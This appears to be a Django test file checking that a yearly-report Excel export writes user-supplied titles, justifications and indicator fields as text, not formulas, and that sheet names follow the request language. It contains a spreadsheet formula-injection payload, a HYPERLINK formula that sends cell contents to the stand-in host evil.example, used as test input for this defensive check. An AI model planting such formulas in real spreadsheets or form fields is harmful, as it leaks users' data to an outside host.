"""The yearly report workbook writes user text as text: a title or justification starting
with ``=`` never becomes a live formula (issue 8, item 10)."""

from __future__ import annotations

import datetime as dt
import io

from django.test import Client
from openpyxl import load_workbook

from kompetensbron.samverkan import services
from kompetensbron.samverkan.schemas import FundingCreate, IndicatorCreate, IndicatorYearIn

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Öppna")'


def test_yearly_report_excel_writes_formulas_as_text(world):
    activity = world.proposed(title=FORMULA, place="=1+1")  # proposed 2025-01-15
    services.decide_activity(
        actor=world.sg_member, activity=activity, decision="approve", justification="=2+2", date=dt.date(2025, 3, 1)
    )
    services.create_funding_application(
        actor=world.wg_member, activity=activity, data=FundingCreate(funder="=3+3", amount_applied=1000)
    )
    indicator = services.create_indicator(
        actor=world.coordinator, agreement=world.agreement, data=IndicatorCreate(name="+4+4", unit="@SUM(1)")
    )
    services.set_indicator_year(
        actor=world.coordinator, indicator=indicator, year=2025, data=IndicatorYearIn(value=3, comment="-5+5")
    )
    client = Client()
    client.force_login(world.coordinator)
    response = client.get(f"/samverkan/avtal/{world.agreement.pk}/arsrapport/2025.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "no cell may be a formula"
    texts = {c.value for c in cells if c.data_type == "s"}
    assert {FORMULA, "=2+2", "+4+4", "@SUM(1)", "-5+5"} <= texts
    numbers = [c.value for c in book["Finansiering"]["C"][1:] if c.value is not None]
    assert 1000 in numbers
    assert book["Indikatorer"]["D2"].value == 3


def test_yearly_report_excel_speaks_the_request_language(world):
    world.proposed(title="Sommarpraktik")
    client = Client()
    client.force_login(world.coordinator)
    url = f"/samverkan/avtal/{world.agreement.pk}/arsrapport/2025.xlsx"
    english = load_workbook(io.BytesIO(client.get(url, HTTP_ACCEPT_LANGUAGE="en").content))
    swedish = load_workbook(io.BytesIO(client.get(url, HTTP_ACCEPT_LANGUAGE="sv").content))
    assert english.sheetnames[:2] == ["Overview", "Activities"] and swedish.sheetnames[:2] == [
        "Översikt",
        "Aktiviteter",
    ]
    assert english["Overview"]["A1"].value.startswith("Yearly report 2025: ")
    assert [c.value for c in english["Activities"][1]][-2:] == ["Expected", "Actual"]
    assert [c.value for c in swedish["Aktiviteter"][1]][-2:] == ["Förväntat", "Faktiskt"]
